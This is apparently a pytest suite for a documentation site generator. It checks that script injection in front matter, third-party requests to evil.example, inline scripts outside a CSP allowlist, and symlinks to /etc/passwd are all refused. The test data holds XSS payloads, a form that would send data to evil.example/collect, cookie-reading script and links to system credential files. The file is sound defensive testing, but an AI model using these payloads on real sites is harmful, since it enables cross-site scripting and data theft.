"""Hostile input: scripts through front matter, third-party requests and files from outside the
repository. (A misbehaving speech service: audio/test_speech_service.py; failed runs:
audio/test_failed_runs.py; broken input that must give one line: checks/test_bad_input.py.)"""

from __future__ import annotations

import os
import shutil

import pytest
from conftest import REPO
from portal.audio.library import AudioLibrary, copy_clip
from portal.checks import check_all
from portal.checks.files import check_files
from portal.checks.safety import check_unsafe_html
from portal.cli import main
from portal.configuration import load_site
from portal.content.errors import ERROR, PortalError
from portal.content.pages import load_content, parse_page
from portal.publish.headers import (
    ScriptAllowlist,
    UnknownScriptError,
    harden,
    inline_scripts,
    material_templates,
)
from support.audio import (
    generated,
    mp3_of_silence,
    snapshot,
)

FRONT = "---\ntitle: Money\ndescription: Help with money.\n---\n"


def unsafe(text: str, rel: str = "x.md"):
    return check_unsafe_html(parse_page(f"docs/en/{rel}", "en", rel, text))


# --- Script through front matter, third-party requests, the CSP -------------------------------

@pytest.mark.parametrize("front, line, field, words", [
    ('title: "Travel<script>alert(1)</script>"', 2, "title", "`<script>` is not allowed"),
    ("title: '</title><img src=x onerror=alert(1)>'", 2, "title", "`onerror=` is not allowed"),
    ("title: Money <b>now</b>", 2, "title", "the title is plain text"),
    ("title: x\ndescription: '<meta http-equiv=refresh content=0;url=https://evil.example>'", 3, "description",
     "`<meta>` is not allowed"),
    ("title: x\ndescription: 'Free\" http-equiv=\"refresh\" content=\"0;url=https://evil.example'", 3, "description",
     'a straight double quote (") ends the description'),
    ("title: x\ndescription: '<img src=https://evil.example/t.gif>'", 3, "description", "is plain text"),
    ("title: javascript:alert(1)", 2, "title", "an address starting `javascript:`"),
])
def test_front_matter_that_would_be_live_html_is_an_error(front, line, field, words):
    found = unsafe(f"---\n{front}\n---\nWords.\n")
    assert any(p.line == line and p.field == field and words in p.message and p.severity == ERROR
               for p in found), found


@pytest.mark.parametrize("title", ["Ages < 18 & over", "Money: “help” and 'support'", "Travel"])
def test_plain_front_matter_is_fine(title):
    assert unsafe(f'---\ntitle: "{title}"\ndescription: Say “hello” & more.\n---\nWords.\n') == []


THIRD_PARTY = [
    ("markdown image", "![Logo](https://evil.example/x.png)", 5, "<img src=\"https://evil.example/x.png\">"),
    ("reference image", "Hi\n\n![Logo][l]\n\n[l]: //evil.example/x.png", 9, "<img src=\"//evil.example/x.png\">"),
    ("img tag", '<img src="https://evil.example/t.gif" alt="">', 5, "loads an image"),
    ("srcset", '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x" alt="">', 5, "srcset="),
    ("video source", '<video controls>\n<source src="https://evil.example/v.mp4">\n</video>', 6, "a media file"),
    ("audio", '<audio src="http://evil.example/a.mp3"></audio>', 5, "loads a sound"),
    ("video poster", '<video src="v.mp4" poster="https://evil.example/p.jpg"></video>', 5, "poster="),
    ("track", '<video src="v.mp4"><track src="https://evil.example/t.vtt"></video>', 5, "a subtitle file"),
    ("form", '<form action="https://evil.example/collect"><input name="q"></form>', 5, "this form sends"),
    ("button formaction", '<button formaction="https://evil.example/">Go</button>', 5, "this form sends"),
    ("style url", '<p style="background:url(//evil.example/i.png)">x</p>', 5, "`style="),
    ("local style url", '<p style="background-image: url(pic.png)">x</p>', 5, "`style="),
    ("attribute list style", "Hello\n{: style=\"background:url(https://evil.example/p.png)\" }", 6, "`style="),
    ("svg use", '<svg><use href="https://evil.example/s.svg#i"></use></svg>', 5, "loads a drawing"),
    ("entity-encoded scheme", '<img src="&#x68;ttps://evil.example/x.png" alt="">', 5, "loads an image"),
    ("backslashes", '<img src="\\\\evil.example\\x.png" alt="">', 5, "loads an image"),
    ("table background", '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>', 5,
     "background="),
]


@pytest.mark.parametrize("case, body, line, words", THIRD_PARTY, ids=[c[0] for c in THIRD_PARTY])
def test_a_third_party_request_in_content_is_an_error(case, body, line, words):
    found = [p for p in unsafe(FRONT + body + "\n") if p.field == "third-party request"]
    assert found and found[0].line == line and words in found[0].message, found
    assert all(p.severity == ERROR for p in found)


@pytest.mark.parametrize("body", [
    "[GOV.UK](https://www.gov.uk/) and <https://www.gov.uk/>",
    "![Map](../assets/map.png)",
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    "```\n<img src=\"https://evil.example/x.png\">\n```",
    "Write `<img src=\"https://evil.example/y\">` to break the rules.",
    '<a href="https://www.gov.uk/">GOV.UK</a>',
])
def test_links_local_files_and_code_are_not_third_party_requests(body):
    assert [p for p in unsafe(FRONT + body + "\n") if p.field == "third-party request"] == []


def test_checks_of_the_fixture_site_refuse_front_matter_script_in_a_translation(fixture_site, write_page):
    write_page("ar/index.md", '---\ntitle: "<script>alert(1)</script>"\ndescription: y\ntranslation:\n'
                              '  source_hash: "6ad4409f2ace"\n  status: draft\n---\nمرحبا\n')
    found = [p for p in check_all(load_content(load_site(fixture_site)))
             if p.path == "docs/ar/index.md" and p.field == "title"]
    assert found and "`<script>`" in found[0].message and found[0].line == 2


MATERIAL_SCOPE = ('__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0))'
                  ',0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
                  '__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}'
                  'catch(e){{}}}}')


@pytest.fixture(scope="module")
def theme_allowlist() -> ScriptAllowlist:
    return ScriptAllowlist.from_templates([material_templates(), REPO / "overrides"])


@pytest.mark.parametrize("base", [".", "..", "../..", "../../..", "/"])
def test_material_scope_script_is_allowed_at_every_page_depth(theme_allowlist, base):
    assert theme_allowlist.allows(MATERIAL_SCOPE.format(base=base))


@pytest.mark.parametrize("script", [
    "alert(1)",
    MATERIAL_SCOPE.format(base='",alert(1),"'),  # the address cannot leave its string
    MATERIAL_SCOPE.format(base=".") + ";alert(1)",
    # redirect.html's address comes from a page's front matter: never a wildcard
    'window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))',
])
def test_scripts_the_theme_does_not_emit_are_not_allowed(theme_allowlist, script):
    assert not theme_allowlist.allows(script)


def page_html(*scripts: str) -> str:
    tags = "".join(f"<script>{s}</script>" for s in scripts)
    return ('<html><head><meta charset="utf-8">' + tags +
            '<script id="__config" type="application/json">{"base": "."}</script></head><body>x</body></html>')


def test_harden_refuses_a_script_found_only_in_page_content_and_never_hashes_it():
    material = MATERIAL_SCOPE.format(base="..")
    html, hashes = harden(page_html(material))
    assert len(hashes) == 1 and "Content-Security-Policy" in html
    with pytest.raises(UnknownScriptError, match=r"en/x.md: the page carries an inline script .*alert\(document"):
        harden(page_html(material, "alert(document.cookie)"), where="en/x.md")
    with pytest.raises(UnknownScriptError):  # upper case tags and odd types are scripts too
        harden(page_html(material).replace("</head>", "<SCRIPT type='module'>fetch('/x')</SCRIPT></head>"))


def test_inline_scripts_skip_src_and_json_but_not_other_types():
    html = ('<script src="a.js"></script><script type="application/json">{}</script>'
            '<script type="text/plain-ish">alert(1)</script><script>ok()</script>')
    assert inline_scripts(html) == ["alert(1)", "ok()"]


@pytest.mark.build
def test_build_fails_on_a_content_script_even_when_checks_are_bypassed(fixture_site, monkeypatch):
    """Defence in depth: if a script ever got past the checks, the CSP step stops the build."""
    import portal.checks
    from mkdocs.commands.build import build
    from mkdocs.config import load_config
    from mkdocs.exceptions import Abort

    page = fixture_site / "docs/en/offer/travel.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n<script>alert(document.cookie)</script>\n",
                    encoding="utf-8")
    monkeypatch.setattr(portal.checks, "check_all", lambda content, today=None: [])
    site_dir = fixture_site / "site"
    with pytest.raises(Abort):
        build(load_config(str(fixture_site / "mkdocs.yml"), site_dir=str(site_dir)))
    headers = site_dir / "_headers"
    assert not headers.exists() or "alert" not in headers.read_text(encoding="utf-8")


@pytest.mark.build
def test_a_clean_build_allows_exactly_the_theme_scripts(fixture_site, theme_allowlist):
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    site_dir = fixture_site / "site"
    build(load_config(str(fixture_site / "mkdocs.yml"), site_dir=str(site_dir)))
    from portal.publish.headers import script_hash

    seen = {}
    for page in site_dir.rglob("*.html"):
        for body in inline_scripts(page.read_text(encoding="utf-8")):
            assert theme_allowlist.allows(body), (page, body[:80])
            seen[script_hash(body)] = body
    policy = (site_dir / "_headers").read_text(encoding="utf-8")
    listed = set(policy.split("script-src 'self' ", 1)[1].split(";", 1)[0].split())
    assert listed == set(seen), "every hash in _headers is a theme script found in the built pages"


# --- Files from outside the repository --------------------------------------------------------

def test_symbolic_links_under_docs_overrides_and_audio_are_named(fixture_site, tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_text("---\ntitle: secret\n---\n", encoding="utf-8")
    links = {
        "docs/en/x.txt": "/etc/passwd",
        "docs/en/evil.md": str(outside),
        "docs/en/inside.md": "index.md",  # a link inside the repository is refused too
        "docs/en/folder": "/etc",
        "overrides/partials/x.html": "/etc/hostname",
        "audio/recordings/en/index.mp3": "/etc/passwd",
        "audio/clips/abc.mp3": "/etc/passwd",
    }
    for rel, target in links.items():
        (fixture_site / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, fixture_site / rel)
    found = check_files(load_site(fixture_site))
    assert sorted(str(p) for p in found) == sorted(
        f"{rel}:1: file: is a symbolic link to {target}; replace it with the file itself"
        for rel, target in links.items())


def test_a_content_folder_that_is_a_link_or_outside_the_repository_is_named(fixture_site, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    shutil.move(fixture_site / "docs", elsewhere)
    os.symlink(elsewhere, fixture_site / "docs")
    assert [str(p) for p in check_files(load_site(fixture_site))] == [
        f"docs:1: file: is a symbolic link to {elsewhere}; replace it with the file itself"]
    config = fixture_site / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("docs_dir: docs", "docs_dir: ../elsewhere"),
                      encoding="utf-8")
    found = check_files(load_site(fixture_site))
    assert len(found) == 1 and "is outside the repository" in found[0].message


def test_a_pipe_under_docs_is_not_a_regular_file(fixture_site):
    os.mkfifo(fixture_site / "docs/en/pipe.md")
    assert [str(p) for p in check_files(load_site(fixture_site))] == [
        "docs/en/pipe.md:1: file: is not a regular file (a device, pipe or socket); remove it"]


def test_check_and_build_refuse_a_link_and_never_read_it(fixture_site, capsys):
    os.symlink("/etc/passwd", fixture_site / "docs/en/offer/passwd.md")
    for command in ("check", "build", "audio", "translations"):
        assert main(["--root", str(fixture_site), command]) == 1
        out = capsys.readouterr()
        assert ("docs/en/offer/passwd.md:1: file: is a symbolic link to /etc/passwd; replace it with the file "
                "itself") in out.out + out.err
        assert "root:" not in out.out + out.err
    assert not (fixture_site / "site").exists() and not (fixture_site / "audio").exists()


def test_reading_a_page_through_a_link_is_refused(fixture_site):
    os.symlink("/etc/passwd", fixture_site / "docs/en/passwd.md")
    with pytest.raises(PortalError, match=r"^docs/en/passwd.md:1: file: is a symbolic link to /etc/passwd"):
        load_content(load_site(fixture_site))



def test_a_linked_recording_is_refused_and_nothing_is_copied(fixture_site, engines, tmp_path):
    generated(fixture_site, engines)
    before = snapshot(fixture_site / "audio")
    real = mp3_of_silence(tmp_path / "real.mp3", 9.0)
    link = fixture_site / "audio/recordings/en/index.mp3"
    link.parent.mkdir(parents=True)
    os.symlink(real, link)
    generator, _ = generated(fixture_site, engines)
    assert [str(p) for p in generator.problems] == [
        f"audio/recordings/en/index.mp3:1: file: is a symbolic link to {real}; replace it with the file itself"]
    assert not list((fixture_site / "audio/clips").glob("rec-*"))
    after = snapshot(fixture_site / "audio")
    after.pop("recordings/en/index.mp3"), after.pop("recordings/en"), after.pop("recordings")
    assert after == before


def test_a_linked_clip_is_never_published(fixture_site, engines, tmp_path):
    generated(fixture_site, engines)
    library = AudioLibrary(fixture_site / "audio")
    entry = library.lock["en/index.md"]
    clip = library.clips / entry.clip
    clip.unlink()
    os.symlink("/etc/passwd", clip)
    from portal.render.speech import page_speech

    text = page_speech(load_content(load_site(fixture_site)), "en", "index.md")
    assert library.current("en", "index.md", text) is None
    assert not library.has_clip(entry.clip)
    with pytest.raises(PortalError, match="is not a regular file in audio/clips/"):
        copy_clip(library, entry.clip, tmp_path / "site")
    assert not (tmp_path / "site/audio" / entry.clip).exists()
